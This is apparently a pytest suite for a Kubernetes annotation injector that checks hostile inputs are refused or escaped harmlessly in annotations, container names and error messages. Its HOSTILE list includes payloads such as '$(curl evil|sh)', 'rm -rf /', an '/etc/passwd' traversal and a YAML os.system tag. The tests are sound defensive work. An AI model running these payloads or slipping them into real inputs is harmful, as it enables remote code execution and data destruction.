"""Texts that want to be more than texts: no refusal, warning or mark lets them."""

import json
from typing import Any

import pytest
from asya_injector.annotations.settings import ClusterDefaults
from asya_injector.annotations.table import TABLE
from asya_injector.errors import InjectionError, join, quote
from asya_injector.mutation.inject import inject
from asya_injector.mutation.uninject import uninject
from asya_injector.mutation.workload import find_overridden, propagate
from hypothesis import given, settings
from hypothesis import strategies as st

Object = dict[str, Any]
POLICY = ClusterDefaults("0123456789", {})

HOSTILE = [
    pytest.param("$(curl evil|sh)", id="shell"),
    pytest.param("`id`; rm -rf / #", id="shell-more"),
    pytest.param("../../etc/passwd", id="traversal"),
    pytest.param("/opt/../etc", id="traversal-inside"),
    pytest.param("a.b\0c", id="nul"),
    pytest.param("a.b\n{\"level\":\"info\"}", id="a-log-line"),
    pytest.param("a.b\r\x1b[2K\x1b[1A", id="terminal"),
    pytest.param("\x7f\x9b31m", id="delete-and-8-bit-escape"),
    pytest.param("а.b", id="cyrillic"),
    pytest.param("a․b", id="one-dot-leader"),
    pytest.param("\u202ea.b\u2066", id="bidi"),
    pytest.param("a\u200b.b", id="zero-width"),
    pytest.param("a\u2028.b\u0085", id="line-separators"),
    pytest.param("\ud800.b", id="lone-surrogate"),
    pytest.param("!!python/object/apply:os.system [id]", id="yaml-tag"),
    pytest.param("&a [*a, *a]", id="yaml-anchor"),
    pytest.param("%s%n{0.__class__}", id="formats"),
    pytest.param("x" * 262_144, id="256-KiB"),
    pytest.param("a." * 131_072, id="256-KiB-of-dots"),
    pytest.param("/a" * 131_072, id="256-KiB-of-slashes"),
    pytest.param("a," * 131_072, id="256-KiB-of-commas"),
    pytest.param("[" * 262_144, id="256-KiB-of-brackets"),
    pytest.param("9" * 262_144, id="256-KiB-of-digits"),
]  # fmt: skip


def line_of(given: Object) -> str:
    """What is said of a pod, a note or a workload: nothing but printable ASCII, of bounded length.

    Nothing where it is not refused.
    """
    said = []
    for function in (lambda: inject(given, POLICY), lambda: uninject(given)):
        try:
            result = function()
        except InjectionError as refusal:
            said.append(str(refusal))
        else:
            said += getattr(result, "warnings", ())
    for line in said:
        assert line.isascii()
        assert line.isprintable()
        assert len(line) < 1500
    return said[0] if said else ""


def pod(annotations: Object, **container: Any) -> Object:
    item = {"name": "model", "command": ["serve"], **container}
    handler = {"asya.sh/handler": "a.b"}
    return {"metadata": {"annotations": handler | annotations}, "spec": {"containers": [item]}}


@pytest.mark.parametrize("entry", TABLE, ids=lambda entry: entry.name)
@pytest.mark.parametrize("text", HOSTILE)
def test_as_a_value_it_is_refused(text: str, entry: Any) -> None:
    given = pod({entry.key: text})
    if entry.name in ("container", "sidecars") and text == "x":
        return
    line = line_of(given)
    assert line.startswith(f"{entry.key}: ")


@pytest.mark.parametrize("text", HOSTILE)
def test_as_a_key_it_is_refused(text: str) -> None:
    assert line_of(pod({f"asya.sh/{text}": "1"})).endswith(" (AnnotationUnknown)")


@pytest.mark.parametrize("text", HOSTILE)
def test_as_a_note_of_ours_it_is_refused_or_not_believed(text: str) -> None:
    assert line_of(pod({"asya.sh/inherited": text})).startswith("asya.sh/inherited: ")
    assert line_of(pod({"asya.sh/injected": text})).startswith("asya.sh/injected: ")


@pytest.mark.parametrize("text", HOSTILE)
def test_as_a_name_in_the_pod_it_is_said_harmlessly(text: str) -> None:
    mount = {"name": text, "mountPath": "/opt/asya"}
    variable = {"name": "ASYA_HANDLER", "value": text}
    assert line_of(pod({"asya.sh/container": "other"}, name=text))
    assert line_of(pod({}, name=text, volumeMounts=[mount]))
    assert line_of(pod({}, name=text, env=[variable]))
    assert line_of(pod({}, name=text, readinessProbe={"tcpSocket": {"port": 1}}))
    assert line_of(pod({}, name=text, command=None, lifecycle={"preStop": {text: {}}}))
    assert line_of(pod({"kubectl.kubernetes.io/default-container": text}))
    line_of(pod({}, env=[{"name": text, "value": text}], command=[text, text]))


@pytest.mark.parametrize("text", HOSTILE)
def test_as_an_annotation_of_a_workload_it_is_said_harmlessly(text: str) -> None:
    template = pod({"asya.sh/mode": text, f"asya.sh/{text}": "1"})
    workload = {
        "metadata": {"annotations": {"asya.sh/mode": "x" + text, f"asya.sh/{text}": text}},
        "spec": {"template": template},
    }
    for line in find_overridden(workload):
        assert line.isascii()
        assert line.isprintable()
        assert len(line) < 1500
    assert line_of(propagate(workload)["spec"]["template"])


def test_a_refusal_stays_short_however_many_containers_there_are() -> None:
    given = pod({"asya.sh/container": "zzz"})
    given["spec"]["containers"] = [{"name": f"{i:03}-" + "c" * 59} for i in range(500)]
    line = line_of(given)
    assert "and 490 more" in line
    given["metadata"]["annotations"] |= {"asya.sh/container": "000-" + "c" * 59}
    given["metadata"]["annotations"] |= {"asya.sh/sidecars": "zzz"}
    assert "and 489 more" in line_of(given)


def test_quotes_cut_and_escape() -> None:
    assert quote('a"\x1b\x7f\u202e') == '"a\\"\\u001b\\u007f\\u202e"'
    assert len(quote("\x1b" * 10_000)) < 650
    assert quote(1) == '"int"'
    assert join(["a", "b"]) == '"a", "b"'
    assert join([]) == ""


@settings(max_examples=60, deadline=None)
@given(st.text(), st.text(), st.sampled_from(TABLE))
def test_whatever_the_texts_the_line_is_one_printable_line(
    text: str, other: str, entry: Any
) -> None:
    line_of(pod({entry.key: text, f"asya.sh/{other}": text}))
    line_of(pod({entry.key: text}, name=other, volumeMounts=[{"name": other, "mountPath": text}]))
    line_of(pod({"asya.sh/injected": text}, env=[{"name": "ASYA_HANDLER", "value": text}]))


def test_the_mark_is_ascii_whatever_was_in_the_pod() -> None:
    given = pod({}, env=[{"name": "ASYA_JSON", "value": "auto"}], name="\x1b\u202e")
    result = inject(given, POLICY)
    assert result is not None
    mark = result.pod["metadata"]["annotations"]["asya.sh/injected"]
    assert mark.isascii()
    assert mark.isprintable()
    assert json.loads(mark)["container"] == "\x1b\u202e"
